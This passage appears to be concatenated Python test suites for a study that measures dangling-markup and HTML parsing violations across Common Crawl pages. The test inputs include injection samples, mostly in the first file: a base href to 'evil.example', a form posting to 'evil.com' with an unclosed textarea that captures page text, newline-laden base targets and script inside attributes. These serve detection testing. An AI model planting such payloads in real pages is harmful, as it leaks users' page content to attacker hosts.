            "", '<base href="https://evil.example/"><script src="js/app.js">'
            "</script>"
        )
        report = CHECKER.check_html(html)
        assert "DM2_1" in report.violated

    def test_dm2_3_in_body_after_url_use(self):
        html = self.HEAD_PAGE.format(
            "", '<img src="/logo.png"><base href="https://evil.example/">'
        )
        report = CHECKER.check_html(html)
        assert {"DM2_1", "DM2_3"} <= report.violated


class TestDE1:
    def test_figure3(self):
        html = (
            '<!DOCTYPE html><html><head><title>t</title></head><body>'
            '<form action="https://evil.com"><input type="submit">'
            "<textarea>\n<p>My little secret</p>"
        )
        assert "DE1" in violated(html)

    def test_closed_textarea_clean(self):
        assert "DE1" not in violated(PAGE.format("<textarea>x</textarea>"))

    def test_unclosed_title_is_not_de1(self):
        assert "DE1" not in violated("<html><head><title>never closed")


class TestDE2:
    def test_unclosed_select(self):
        html = "<!DOCTYPE html><html><body><select><option>France"
        assert "DE2" in violated(html)

    def test_closed_select_clean(self):
        assert "DE2" not in violated(PAGE.format(
            "<select><option>a</option></select>"
        ))


class TestDE3:
    def test_de3_1_newline_and_lt_in_url(self):
        assert "DE3_1" in violated(PAGE.format(
            '<a href="https://e/?c=\n<page>">x</a>'
        ))

    def test_de3_1_newline_only_clean(self):
        assert "DE3_1" not in violated(PAGE.format(
            '<a href="https://e/?c=\nplain">x</a>'
        ))

    def test_de3_1_lt_only_clean(self):
        assert "DE3_1" not in violated(PAGE.format(
            '<a href="https://e/?c=<page>">x</a>'
        ))

    def test_de3_1_non_url_attribute_ignored(self):
        assert "DE3_1" not in violated(PAGE.format(
            '<div data-note="\n<x>">y</div>'
        ))

    def test_de3_2_script_in_attribute(self):
        assert "DE3_2" in violated(PAGE.format(
            '<iframe srcdoc="<script>x()</script>"></iframe>'
        ))

    def test_de3_2_case_insensitive(self):
        assert "DE3_2" in violated(PAGE.format(
            '<div data-html="<SCRIPT src=/x>">y</div>'
        ))

    def test_de3_2_entity_encoded_also_detected(self):
        # tokenizer decodes entities in attribute values before the check
        assert "DE3_2" in violated(PAGE.format(
            '<div data-html="&lt;script&gt;x()">y</div>'
        ))

    def test_de3_2_plain_attr_clean(self):
        assert "DE3_2" not in violated(PAGE.format('<div data-x="script">y</div>'))

    def test_de3_3_newline_in_target(self):
        assert "DE3_3" in violated(PAGE.format(
            '<a href="/p" target="promo\nwin">x</a>'
        ))

    def test_de3_3_figure5_base_target(self):
        html = PAGE.format(
            '<a href="https://evil.com">click</a><base target="\n'
            '<p>secret</p>">'
        )
        assert "DE3_3" in violated(html)

    def test_de3_3_normal_target_clean(self):
        assert "DE3_3" not in violated(PAGE.format(
            '<a href="/p" target="_blank">x</a>'
        ))


class TestDE4:
    def test_figure13_nested_forms(self):
        html = PAGE.format(
            '<form method="get" action="/search/">'
            '<form id="keywordsearch" method="get" action="/search">'
            '<input name="q"></form>'
        )
        assert "DE4" in violated(html)

    def test_sibling_forms_clean(self):
        assert "DE4" not in violated(PAGE.format(
            "<form action='/a'></form><form action='/b'></form>"
        ))


class TestHF1:
    def test_stray_div_in_head(self):
        html = (
            "<!DOCTYPE html><html><head><title>t</title>"
            "<div hidden>modal</div></head><body>x</body></html>"
        )
        assert "HF1" in violated(html)

    def test_missing_head_tags(self):
        assert "HF1" in violated("<html><body>x</body></html>")

    def test_late_head_element(self):
        html = (
            "<!DOCTYPE html><html><head><title>t</title></head>"
            '<link rel="stylesheet" href="/x.css"><body>x</body></html>'
        )
        assert "HF1" in violated(html)

    def test_complete_head_clean(self):
        assert "HF1" not in violated(PAGE.format("x"))


class TestHF2:
    def test_content_before_body(self):
        html = (
            "<!DOCTYPE html><html><head><title>t</title></head>"
            "<img src='p.gif'><body>x</body></html>"
        )
        assert "HF2" in violated(html)

    def test_explicit_body_clean(self):
        assert "HF2" not in violated(PAGE.format("x"))

    def test_head_only_document_not_hf2(self):
        assert "HF2" not in violated(
            "<!DOCTYPE html><html><head><title>t</title></head></html>"
        )


class TestHF3:
    def test_second_body(self):
        assert "HF3" in violated(
            "<!DOCTYPE html><html><head><title>t</title></head>"
            "<body class=a><p>x</p><body data-x=1></body></html>"
        )

    def test_single_body_clean(self):
        assert "HF3" not in violated(PAGE.format("x"))


class TestHF4:
    def test_figure11(self):
        assert "HF4" in violated(PAGE.format(
            "<table><tr><strong>Cozi Organizer</strong></tr>"
            "<tr><td>x</td></tr></table>"
        ))

    def test_clean_table(self):
        assert "HF4" not in violated(PAGE.format(
            "<table><tr><td><strong>x</strong></td></tr></table>"
        ))


class TestHF5:
    def test_hf5_1_stranded_path(self):
        assert "HF5_1" in violated(PAGE.format(
            '<g class="icon"><path d="M0 0h24z"></path></g>'
        ))

    def test_hf5_1_stranded_mathml(self):
        assert "HF5_1" in violated(PAGE.format("<mrow><mi>x</mi></mrow>"))

    def test_hf5_1_proper_svg_clean(self):
        assert "HF5_1" not in violated(PAGE.format(
            '<svg><path d="M0 0h24z"></path></svg>'
        ))

    def test_hf5_2_div_in_svg(self):
        assert "HF5_2" in violated(PAGE.format(
            "<svg><div>overlay</div></svg>"
        ))

    def test_hf5_2_foreignobject_clean(self):
        assert "HF5_2" not in violated(PAGE.format(
            "<svg><foreignObject><div>fine</div></foreignObject></svg>"
        ))

    def test_hf5_3_div_in_math(self):
        assert "HF5_3" in violated(PAGE.format(
            "<math><mrow><div>x</div></mrow></math>"
        ))

    def test_hf5_3_mtext_integration_clean(self):
        assert "HF5_3" not in violated(PAGE.format(
            "<math><mtext><b>fine</b></mtext></math>"
        ))

    def test_valid_math_usage_clean(self):
        assert violated(PAGE.format(
            "<math><mi>x</mi><mo>+</mo><mn>1</mn></math>"
        )) == frozenset()


class TestCleanDocument:
    def test_conforming_page_no_findings(self):
        html = (
            "<!DOCTYPE html><html lang='en'><head><title>ok</title>"
            '<meta charset="utf-8"><base href="/app/">'
            '<link rel="stylesheet" href="/s.css"></head>'
            "<body><h1>Hi</h1><p>Text with <a href='/x'>link</a>.</p>"
            "<table><tbody><tr><td>1</td></tr></tbody></table>"
            "</body></html>"
        )
        report = CHECKER.check_html(html)
        assert report.findings == []
