"""Tier-1 equivalence: fused single-pass check engine vs per-rule reference.

The fused engine (:mod:`repro.core.rules.fused`) compiles the registry
into dispatch tables and runs ONE walk per shared data source; the
reference path runs every rule's own ``check`` traversal.  These tests
replay every regression-corpus entry and every synthetic Common Crawl
template page (clean and violation-injected) through both engines and
assert **bit-identical findings** — same objects, same order.  Findings
are the study's measurement, so any divergence here is a measurement bug,
exactly like a tokenizer fast-path divergence.

Unit tests for the compiler (footprint validation, unfused fallback,
failure attribution) ride along.
"""
from __future__ import annotations

import random
import unittest
from pathlib import Path

from repro.commoncrawl.templates import INJECTORS, build_page
from repro.core import Checker
from repro.core.rules import (
    RULE_CLASSES,
    Footprint,
    FusedCheckEngine,
    FusedCompileError,
    RuleExecutionError,
)
from repro.core.rules.base import Rule
from repro.fuzz import load_corpus
from repro.html import decode_bytes, parse

CORPUS_DIR = Path(__file__).resolve().parents[1] / "fuzz_corpus"

_FUSED = Checker(engine="fused")
_REFERENCE = Checker(engine="reference")


def assert_equivalent(test: unittest.TestCase, text: str, source: str) -> None:
    result = parse(text)
    fused = _FUSED.check_parse(result).findings
    reference = _REFERENCE.check_parse(result).findings
    test.assertEqual(
        fused, reference, f"fused engine findings diverged on {source}"
    )


class TestCorpusEquivalence(unittest.TestCase):
    """Every regression-corpus entry checks identically on both engines."""

    def test_corpus_entries(self):
        entries = load_corpus(CORPUS_DIR)
        self.assertGreater(len(entries), 0)
        checked = 0
        for entry in entries:
            text = decode_bytes(entry.data)
            if text is None:
                continue  # non-UTF-8 inputs are outside the study's scope
            assert_equivalent(self, text, entry.source)
            checked += 1
        self.assertGreater(checked, 0)


class TestTemplateEquivalence(unittest.TestCase):
    """Every synthetic study page checks identically on both engines."""

    def test_clean_pages(self):
        rng = random.Random(1402)
        for index in range(12):
            draft = build_page(
                f"domain{index}.example",
                f"/page/{index}",
                rng,
                use_svg=index % 3 == 0,
                use_math=index % 4 == 0,
            )
            assert_equivalent(self, draft.render(), f"clean page {index}")

    def test_injected_pages(self):
        # every injector appears at least once, singly and combined
        rng = random.Random(1403)
        names = sorted(INJECTORS)
        for name in names:
            draft = build_page(f"{name.lower()}.example", "/", rng)
            INJECTORS[name].apply(draft, rng)
            assert_equivalent(self, draft.render(), f"injector {name}")
        for index in range(12):
            draft = build_page(f"multi{index}.example", "/", rng)
            picks = rng.sample(names, k=3)
            # terminal injectors rewrite the page tail; they must run last
            picks.sort(key=lambda n: INJECTORS[n].terminal)
            for name in picks:
                INJECTORS[name].apply(draft, rng)
            assert_equivalent(
                self, draft.render(), f"injected page {index} ({picks})"
            )

    def test_rule_major_ordering_preserved(self):
        # a page violating several rules exercises the bucket concatenation
        text = (
            "<!DOCTYPE html><html><head><title>t</title></head><body>"
            '<img src="a"onerror="x()"><img/src="b">'
            "<base href='/x'><base href='/y'>"
            "<table><tr><strong>X</strong></tr></table></body></html>"
        )
        assert_equivalent(self, text, "multi-violation ordering page")


class TestFusedCompiler(unittest.TestCase):
    def test_full_registry_compiles_fully_fused(self):
        engine = FusedCheckEngine([cls() for cls in RULE_CLASSES])
        self.assertEqual(engine.fused_rule_count, len(RULE_CLASSES))

    def test_rule_without_footprint_falls_back_to_check(self):
        class Legacy(Rule):
            """FB1 — fixture reusing a registered id (HTML 0.0.0)."""

            id = "FB1"

            def check(self, result):
                return []

        engine = FusedCheckEngine([Legacy()])
        self.assertEqual(engine.fused_rule_count, 0)
        self.assertEqual(engine.run(parse("<p>hi</p>")), [])

    def test_unfused_findings_keep_registry_order(self):
        # an unfused rule sandwiched between fused ones must keep its slot
        sentinel = object()

        class Legacy(Rule):
            """FB1 — fixture reusing a registered id (HTML 0.0.0)."""

            id = "FB1"

            def check(self, result):
                return [sentinel]

        rules = [RULE_CLASSES[0](), Legacy(), RULE_CLASSES[1]()]
        engine = FusedCheckEngine(rules)
        self.assertEqual(engine.fused_rule_count, 2)
        findings = engine.run(parse("<p>clean</p>"))
        self.assertEqual(findings, [sentinel])

    def test_footprint_wrong_type_rejected(self):
        class Bad(Rule):
            """FB1 — fixture reusing a registered id (HTML 0.0.0)."""

            id = "FB1"
            footprint = {"events": ("foster-parented",)}

            def check(self, result):
                return []

        with self.assertRaises(FusedCompileError):
            FusedCheckEngine([Bad()])

    def test_empty_footprint_rejected(self):
        class Bad(Rule):
            """FB1 — fixture reusing a registered id (HTML 0.0.0)."""

            id = "FB1"
            footprint = Footprint()

            def check(self, result):
                return []

        with self.assertRaises(FusedCompileError):
            FusedCheckEngine([Bad()])

    def test_missing_handler_rejected(self):
        class Bad(Rule):
            """FB1 — fixture reusing a registered id (HTML 0.0.0)."""

            id = "FB1"
            footprint = Footprint(events=("foster-parented",))

            def check(self, result):
                return []

        with self.assertRaises(FusedCompileError) as caught:
            FusedCheckEngine([Bad()])
        self.assertIn("fused_event", str(caught.exception))

    def test_unknown_error_code_rejected(self):
        class Bad(Rule):
            """FB1 — fixture reusing a registered id (HTML 0.0.0)."""

            id = "FB1"
            footprint = Footprint(errors=("NO_SUCH_CODE",))

            def fused_error(self, error, source, out):
                pass

            def check(self, result):
                return []

        with self.assertRaises(FusedCompileError) as caught:
            FusedCheckEngine([Bad()])
        self.assertIn("NO_SUCH_CODE", str(caught.exception))


class TestFailureAttribution(unittest.TestCase):
    """Both engines must name the rule that raised mid-walk."""

    class Exploding(Rule):
        """FB1 — fixture reusing a registered id (HTML 0.0.0)."""

        id = "FB1"
        footprint = Footprint(tags=("*",))

        def fused_element(self, element, in_head, source, state, out):
            raise ZeroDivisionError("boom")

        def check(self, result):
            raise ZeroDivisionError("boom")

    def test_fused_engine_names_rule(self):
        checker = Checker(rules=[self.Exploding()], engine="fused")
        with self.assertRaises(RuleExecutionError) as caught:
            checker.check_html("<p>x</p>")
        self.assertEqual(caught.exception.rule_id, "FB1")
        self.assertIsInstance(caught.exception.cause, ZeroDivisionError)

    def test_reference_engine_names_rule(self):
        checker = Checker(rules=[self.Exploding()], engine="reference")
        with self.assertRaises(RuleExecutionError) as caught:
            checker.check_html("<p>x</p>")
        self.assertEqual(caught.exception.rule_id, "FB1")
        self.assertIsInstance(caught.exception.cause, ZeroDivisionError)

    def test_unfused_failure_names_rule(self):
        class Legacy(Rule):
            """FB2 — fixture reusing a registered id (HTML 0.0.0)."""

            id = "FB2"

            def check(self, result):
                raise KeyError("gone")

        checker = Checker(rules=[Legacy()], engine="fused")
        with self.assertRaises(RuleExecutionError) as caught:
            checker.check_html("<p>x</p>")
        self.assertEqual(caught.exception.rule_id, "FB2")

    def test_unknown_engine_rejected(self):
        with self.assertRaises(ValueError):
            Checker(engine="turbo")


if __name__ == "__main__":  # pragma: no cover
    unittest.main()
