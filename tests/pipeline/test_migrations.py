"""Schema migration tests: versioned open, auto-upgrade, refusal."""
from __future__ import annotations

import sqlite3

import pytest

from repro.pipeline import SchemaVersionError, Storage
from repro.pipeline.migrations import ensure_schema, schema_version
from repro.pipeline.storage import SCHEMA_VERSION

CREATE_V2 = """
CREATE TABLE items (id INTEGER PRIMARY KEY, name TEXT NOT NULL,
                    extra TEXT NOT NULL DEFAULT '');
"""
MIGRATIONS = {2: ("ALTER TABLE items ADD COLUMN extra TEXT NOT NULL DEFAULT ''",)}


class TestEnsureSchema:
    def test_empty_database_stamped_latest(self):
        conn = sqlite3.connect(":memory:")
        found = ensure_schema(
            conn, latest=2, create=CREATE_V2, migrations=MIGRATIONS, label="t"
        )
        assert found == 2
        assert schema_version(conn) == 2
        conn.execute("INSERT INTO items(name) VALUES ('a')")

    def test_unversioned_database_treated_as_generation_one(self):
        conn = sqlite3.connect(":memory:")
        conn.execute("CREATE TABLE items (id INTEGER PRIMARY KEY, name TEXT NOT NULL)")
        conn.execute("INSERT INTO items(name) VALUES ('kept')")
        found = ensure_schema(
            conn, latest=2, create=CREATE_V2, migrations=MIGRATIONS, label="t"
        )
        assert found == 1
        assert schema_version(conn) == 2
        # upgraded in place, data preserved, new column usable
        assert conn.execute("SELECT name, extra FROM items").fetchall() == [
            ("kept", "")
        ]

    def test_current_version_untouched(self):
        conn = sqlite3.connect(":memory:")
        ensure_schema(conn, latest=2, create=CREATE_V2, migrations=MIGRATIONS,
                      label="t")
        found = ensure_schema(
            conn, latest=2, create=CREATE_V2, migrations=MIGRATIONS, label="t"
        )
        assert found == 2

    def test_newer_version_refused(self):
        conn = sqlite3.connect(":memory:")
        ensure_schema(conn, latest=2, create=CREATE_V2, migrations=MIGRATIONS,
                      label="t")
        conn.execute("PRAGMA user_version = 3")
        with pytest.raises(SchemaVersionError, match="generation 3"):
            ensure_schema(conn, latest=2, create=CREATE_V2,
                          migrations=MIGRATIONS, label="t")

    def test_missing_migration_path_refused(self):
        conn = sqlite3.connect(":memory:")
        conn.execute("CREATE TABLE items (id INTEGER PRIMARY KEY)")
        with pytest.raises(SchemaVersionError, match="no migration path"):
            ensure_schema(conn, latest=2, create=CREATE_V2, migrations={},
                          label="t")

    def test_failed_step_rolls_back_stamp(self):
        conn = sqlite3.connect(":memory:")
        conn.execute("CREATE TABLE items (id INTEGER PRIMARY KEY)")
        bad = {2: ("ALTER TABLE items ADD COLUMN extra TEXT", "SYNTAX ERROR")}
        with pytest.raises(sqlite3.OperationalError):
            ensure_schema(conn, latest=2, create=CREATE_V2, migrations=bad,
                          label="t")
        # the half-applied step rolled back: version stamp unchanged
        assert schema_version(conn) == 0
        assert conn.execute(
            "SELECT COUNT(*) FROM pragma_table_info('items')"
            " WHERE name = 'extra'"
        ).fetchone() == (0,)


def _legacy_results_db(path) -> None:
    """A generation-1 results database: the pre-PR schema, no
    ``pages.carried_from`` column, ``user_version`` 0."""
    conn = sqlite3.connect(path)
    conn.executescript("""
        CREATE TABLE snapshots (id INTEGER PRIMARY KEY, name TEXT NOT NULL
            UNIQUE, year INTEGER NOT NULL);
        CREATE TABLE domains (id INTEGER PRIMARY KEY, name TEXT NOT NULL
            UNIQUE, avg_rank REAL NOT NULL DEFAULT 0);
        CREATE TABLE domain_status (snapshot_id INTEGER NOT NULL,
            domain_id INTEGER NOT NULL, found INTEGER NOT NULL,
            analyzed INTEGER NOT NULL, pages INTEGER NOT NULL,
            PRIMARY KEY (snapshot_id, domain_id));
        CREATE TABLE pages (id INTEGER PRIMARY KEY, snapshot_id INTEGER
            NOT NULL, domain_id INTEGER NOT NULL, url TEXT NOT NULL,
            utf8 INTEGER NOT NULL, checked INTEGER NOT NULL,
            declared_encoding TEXT NOT NULL DEFAULT '');
        CREATE TABLE findings (id INTEGER PRIMARY KEY, page_id INTEGER
            NOT NULL, violation TEXT NOT NULL, count INTEGER NOT NULL);
        CREATE TABLE mitigations (page_id INTEGER PRIMARY KEY,
            script_in_attr INTEGER NOT NULL, nonced_script_in_attr INTEGER
            NOT NULL, urls_nl INTEGER NOT NULL, urls_nl_lt INTEGER NOT NULL);
        CREATE TABLE page_features (page_id INTEGER PRIMARY KEY,
            math_elements INTEGER NOT NULL, svg_elements INTEGER NOT NULL);
    """)
    conn.execute("INSERT INTO snapshots(name, year) VALUES ('CC-OLD', 2020)")
    conn.execute("INSERT INTO domains(name, avg_rank) VALUES ('d.example', 1)")
    conn.execute(
        "INSERT INTO pages(snapshot_id, domain_id, url, utf8, checked)"
        " VALUES (1, 1, 'https://d.example/', 1, 1)"
    )
    conn.commit()
    conn.close()


class TestStorageVersioning:
    def test_fresh_storage_stamped_latest(self, tmp_path):
        with Storage(tmp_path / "fresh.sqlite") as storage:
            assert storage.schema_version_found == SCHEMA_VERSION
            assert schema_version(storage.conn) == SCHEMA_VERSION

    def test_legacy_database_auto_upgrades(self, tmp_path):
        path = tmp_path / "legacy.sqlite"
        _legacy_results_db(path)
        with Storage(path) as storage:
            assert storage.schema_version_found == 1
            assert schema_version(storage.conn) == SCHEMA_VERSION
            # existing rows got the provenance default; new writes work
            rows = storage.conn.execute(
                "SELECT url, carried_from FROM pages"
            ).fetchall()
            assert rows == [("https://d.example/", "")]
            storage.add_page(1, 1, "https://d.example/new", utf8=True,
                             checked=True, carried_from="CC-OLD https://x/")

    def test_newer_database_refused(self, tmp_path):
        path = tmp_path / "future.sqlite"
        with Storage(path):
            pass
        conn = sqlite3.connect(path)
        conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
        conn.commit()
        conn.close()
        with pytest.raises(SchemaVersionError):
            Storage(path)
