"""Edge cases for :func:`repro.pipeline.checker_stage.check_page`.

The checker stage sits between the fetcher and storage; a page it
mishandles is a page silently missing from the study.  These tests pin
the boundary behaviours: documents with no body, bytes the section 4.1
encoding filter rejects, and a rule blowing up mid-walk (which must name
the offending rule, not abort the page anonymously).
"""
from __future__ import annotations

import pytest

from repro.core import Checker, RuleExecutionError
from repro.core.rules import Footprint
from repro.core.rules.base import Rule
from repro.pipeline.checker_stage import CheckedPage, check_page
from repro.pipeline.crawler import FetchedPage


def page(payload: bytes, url: str = "https://s/p",
         content_type: str = "text/html") -> FetchedPage:
    return FetchedPage(url=url, payload=payload, content_type=content_type)


class TestEmptyAndDegenerateBodies:
    def test_empty_payload_is_checked_not_crashed(self):
        checked = check_page(page(b""), Checker())
        assert checked.utf8 is True
        assert checked.report is not None
        # the parser implies <head>/<body>; HF1 fires, nothing crashes
        assert checked.report.violated <= {"HF1", "HF2"}
        assert checked.features is not None

    def test_head_only_document(self):
        html = b"<!DOCTYPE html><html><head><title>t</title></head></html>"
        checked = check_page(page(html), Checker())
        assert checked.utf8 is True
        assert checked.report is not None
        # the parser still implies a body; features must not choke on it
        assert checked.features is not None

    def test_whitespace_only_document(self):
        checked = check_page(page(b"  \n\t  "), Checker())
        assert checked.utf8 is True
        assert checked.report is not None

    def test_mitigation_measurement_optional(self):
        checked = check_page(
            page(b"<p>x</p>"), Checker(), measure_mitigation_signals=False
        )
        assert checked.mitigation is None
        assert checked.report is not None


class TestEncodingFilter:
    def test_non_utf8_page_is_skipped_not_checked(self):
        latin1 = "<p>caf\xe9</p>".encode("latin-1")
        checked = check_page(page(latin1), Checker())
        assert checked.utf8 is False
        assert checked.report is None
        assert checked.mitigation is None
        assert checked.features is None
        assert checked.url == "https://s/p"

    def test_declared_encoding_recorded_for_rejected_page(self):
        payload = (
            b'<meta charset="iso-8859-1"><p>caf\xe9</p>'
        )
        checked = check_page(page(payload), Checker())
        assert checked.utf8 is False
        # the meta prescan normalizes the label (iso-8859-1 -> windows-1252)
        assert checked.declared_encoding == "windows-1252"

    def test_declared_encoding_from_http_header(self):
        payload = "<p>caf\xe9</p>".encode("latin-1")
        checked = check_page(
            page(payload, content_type="text/html; charset=windows-1252"),
            Checker(),
        )
        assert checked.utf8 is False
        assert checked.declared_encoding == "windows-1252"

    def test_utf8_bom_page_still_checked(self):
        checked = check_page(page(b"\xef\xbb\xbf<p>x</p>"), Checker())
        assert checked.utf8 is True
        assert checked.report is not None


class _ExplodingRule(Rule):
    """FB1 — fixture reusing a registered id (HTML 0.0.0)."""

    id = "FB1"
    footprint = Footprint(tags=("*",))

    def fused_element(self, element, in_head, source, state, out):
        raise ZeroDivisionError("boom")

    def check(self, result):
        raise ZeroDivisionError("boom")


class TestRuleFailureAttribution:
    """A rule raising mid-walk must surface WHICH rule failed."""

    @pytest.mark.parametrize("engine", ["fused", "reference"])
    def test_failure_names_rule(self, engine):
        checker = Checker(rules=[_ExplodingRule()], engine=engine)
        with pytest.raises(RuleExecutionError) as caught:
            check_page(page(b"<p>x</p>"), checker)
        assert caught.value.rule_id == "FB1"
        assert isinstance(caught.value.cause, ZeroDivisionError)
        assert "FB1" in str(caught.value)

    def test_failure_is_not_swallowed_into_checked_page(self):
        # the stage must propagate, not hand back a half-built CheckedPage
        checker = Checker(rules=[_ExplodingRule()])
        with pytest.raises(RuleExecutionError):
            check_page(page(b"<p>x</p>"), checker)

    def test_healthy_rules_unaffected(self):
        checked = check_page(page(b"<img src=a ><p>x</p>"), Checker())
        assert isinstance(checked, CheckedPage)
        assert checked.report is not None
