"""Failure injection: corrupted records, flaky fetches, revisit records.

The pipeline must degrade gracefully — one broken capture never loses a
domain, transient errors are retried, and deduplicated (revisit) captures
never reach the checker via the MIME filter.
"""
from __future__ import annotations

import pytest

from repro.commoncrawl import (
    ArchiveBuilder,
    CommonCrawlClient,
    CorpusConfig,
    CorpusPlanner,
    snapshot_name,
)
from repro.pipeline import CrawlStats, collect_metadata, fetch_pages
from repro.warc import WARCFormatError, WARCRecord


@pytest.fixture(scope="module")
def archive(tmp_path_factory):
    root = tmp_path_factory.mktemp("fi-archive")
    # large seed sweep so at least one revisit gets generated
    config = CorpusConfig(num_domains=80, max_pages=4, seed=31, years=(2022,))
    plan = CorpusPlanner(config).plan()
    built = ArchiveBuilder(root).build(plan)
    return root, plan, built


class FlakyClient:
    """Wrapper that fails the first ``failures`` fetches of each entry."""

    def __init__(self, client: CommonCrawlClient, failures: int) -> None:
        self._client = client
        self._failures = failures
        self._attempts: dict[str, int] = {}

    def query(self, *args, **kwargs):
        return self._client.query(*args, **kwargs)

    def fetch(self, entry):
        count = self._attempts.get(entry.url, 0)
        self._attempts[entry.url] = count + 1
        if count < self._failures:
            raise OSError("simulated transient S3 failure")
        return self._client.fetch(entry)


class TestRetries:
    def test_transient_failures_retried(self, archive):
        root, plan, _built = archive
        flaky = FlakyClient(CommonCrawlClient(root), failures=1)
        domain = plan.succeeded[2022][0]
        metadata = collect_metadata(flaky, snapshot_name(2022), domain)
        stats = CrawlStats()
        pages = list(fetch_pages(flaky, metadata, stats=stats, retries=2))
        assert pages, "all pages recovered after one retry each"
        assert stats.retried == len(metadata.entries)
        assert stats.failed == 0

    def test_exhausted_retries_skip_capture(self, archive):
        root, plan, _built = archive
        flaky = FlakyClient(CommonCrawlClient(root), failures=10)
        domain = plan.succeeded[2022][0]
        metadata = collect_metadata(flaky, snapshot_name(2022), domain)
        stats = CrawlStats()
        pages = list(fetch_pages(flaky, metadata, stats=stats, retries=2))
        assert pages == []
        assert stats.failed == len(metadata.entries)
        assert stats.errors


class TestCorruption:
    def test_corrupted_record_skipped(self, archive, tmp_path):
        root, plan, built = archive
        client = CommonCrawlClient(root)
        domain = plan.succeeded[2022][0]
        metadata = collect_metadata(client, snapshot_name(2022), domain)
        # truncate the WARC part mid-file: later captures fail, earlier ok
        part = root / built[0].warc_parts[0]
        original = part.read_bytes()
        try:
            part.write_bytes(original[: len(original) // 2])
            stats = CrawlStats()
            list(fetch_pages(client, metadata, stats=stats))
            assert stats.failed > 0 or stats.fetched > 0
        finally:
            part.write_bytes(original)

    def test_garbage_slice_raises_format_error(self, archive, tmp_path):
        garbage = tmp_path / "garbage.warc.gz"
        garbage.write_bytes(b"\x1f\x8b totally not gzip")
        from repro.warc import read_record_at

        with pytest.raises((WARCFormatError, OSError, Exception)):
            read_record_at(garbage, 0, 10)


class TestRevisits:
    def _find_revisit(self, archive):
        root, plan, built = archive
        client = CommonCrawlClient(root)
        for domain in plan.succeeded[2022]:
            for entry in client.query(
                snapshot_name(2022), domain, mime="warc/revisit"
            ):
                return client, entry
        return client, None

    def test_revisits_exist_in_corpus(self, archive):
        _root, _plan, built = archive
        assert sum(snapshot.revisits for snapshot in built) > 0

    def test_html_mime_filter_excludes_revisits(self, archive):
        root, plan, _built = archive
        client = CommonCrawlClient(root)
        for domain in plan.succeeded[2022]:
            metadata = collect_metadata(client, snapshot_name(2022), domain)
            assert all(
                entry.mime == "text/html" for entry in metadata.entries
            )

    def test_revisit_record_shape(self, archive):
        client, entry = self._find_revisit(archive)
        if entry is None:
            pytest.skip("no revisit in this corpus")
        record = client.fetch(entry)
        assert record.is_revisit
        assert record.refers_to_uri == entry.url
        assert record.payload == b""

    def test_resolve_revisit_returns_original(self, archive):
        client, entry = self._find_revisit(archive)
        if entry is None:
            pytest.skip("no revisit in this corpus")
        record = client.fetch(entry)
        original = client.resolve_revisit(snapshot_name(2022), record)
        assert original is not None
        assert not original.is_revisit
        assert original.payload_digest == record.headers["WARC-Payload-Digest"]

    def test_resolve_non_revisit_is_identity(self, archive):
        root, plan, _built = archive
        client = CommonCrawlClient(root)
        domain = plan.succeeded[2022][0]
        entry = next(client.query(snapshot_name(2022), domain))
        record = client.fetch(entry)
        assert client.resolve_revisit(snapshot_name(2022), record) is record
