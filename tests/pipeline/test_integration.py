"""Pipeline integration: the measured results must recover the corpus
ground truth — the central correctness claim of the whole framework."""
from __future__ import annotations

import pytest

from repro.commoncrawl import (
    ArchiveBuilder,
    CommonCrawlClient,
    CorpusConfig,
    CorpusPlanner,
    snapshot_name,
)
from repro.commoncrawl.templates import INJECTORS
from repro.pipeline import Storage, StudyRunner, collect_metadata, fetch_pages
from repro.pipeline.checker_stage import check_page
from repro.core import Checker


@pytest.fixture(scope="module")
def study(tmp_path_factory):
    root = tmp_path_factory.mktemp("pipe-archive")
    config = CorpusConfig(num_domains=60, max_pages=4, seed=17,
                          years=(2015, 2022))
    plan = CorpusPlanner(config).plan()
    ArchiveBuilder(root).build(plan)
    client = CommonCrawlClient(root)
    storage = Storage(":memory:")
    runner = StudyRunner(client, storage, max_pages=config.max_pages + 1)
    stats = runner.run([(name, rank) for name, rank in plan.domains])
    yield plan, storage, stats
    storage.close()


class TestRunStats:
    def test_all_snapshots_processed(self, study):
        _plan, _storage, stats = study
        assert stats.snapshots == 2

    def test_pages_checked_positive(self, study):
        _plan, _storage, stats = study
        assert stats.pages_checked > 50
        assert stats.pages_fetched >= stats.pages_checked

    def test_non_utf8_filtered(self, study):
        plan, _storage, stats = study
        planned_non_utf8 = sum(
            1
            for specs in plan.pages.values()
            for spec in specs
            if spec.html and not spec.utf8
        )
        assert stats.pages_filtered_non_utf8 == planned_non_utf8


class TestGroundTruthRecovery:
    """Measured domain status and violations == planned ones, exactly."""

    def test_domain_presence_matches_plan(self, study):
        plan, storage, _stats = study
        for row in storage.dataset_stats():
            year = row["year"]
            assert row["analyzed"] == len(plan.succeeded[year])

    def test_violating_domains_match_plan(self, study):
        plan, storage, _stats = study
        for year in (2015, 2022):
            assert (
                storage.domains_with_any_violation(year)
                == plan.domains_violating(year)
            )

    @pytest.mark.parametrize("rule", ["FB2", "DM3", "HF4", "HF1", "DE4"])
    def test_per_rule_domain_counts_match_plan(self, study, rule):
        plan, storage, _stats = study
        for year in (2015, 2022):
            expected = sum(
                1
                for domain in plan.succeeded[year]
                if any(
                    rule in INJECTORS[name].effects
                    for name in plan.active.get((domain, year), ())
                )
            )
            measured = storage.violation_domain_counts(year).get(rule, 0)
            # cascade interactions can only add HF1/HF2 events, never
            # remove them, so equality is expected for these rules
            assert measured == expected, (rule, year)

    def test_json_pages_never_fetched(self, study):
        _plan, storage, _stats = study
        rows = storage.conn.execute(
            "SELECT url FROM pages WHERE url LIKE '%json%'"
        ).fetchall()
        assert rows == []


class TestStages:
    def test_metadata_stage(self, study, tmp_path_factory):
        plan, _storage, _stats = study
        root = plan  # unused; stage-level checks below use a fresh archive

    def test_stage_functions_compose(self, tmp_path):
        config = CorpusConfig(num_domains=10, max_pages=2, seed=5, years=(2022,))
        plan = CorpusPlanner(config).plan()
        ArchiveBuilder(tmp_path).build(plan)
        client = CommonCrawlClient(tmp_path)
        domain = plan.succeeded[2022][0]
        metadata = collect_metadata(client, snapshot_name(2022), domain, max_pages=2)
        assert metadata.found
        checker = Checker()
        checked = [
            check_page(page, checker) for page in fetch_pages(client, metadata)
        ]
        assert checked
        assert all(page.report is not None for page in checked if page.utf8)

    def test_absent_domain_not_found(self, tmp_path):
        config = CorpusConfig(num_domains=10, max_pages=2, seed=5, years=(2022,))
        plan = CorpusPlanner(config).plan()
        ArchiveBuilder(tmp_path).build(plan)
        client = CommonCrawlClient(tmp_path)
        metadata = collect_metadata(client, snapshot_name(2022), "missing.example")
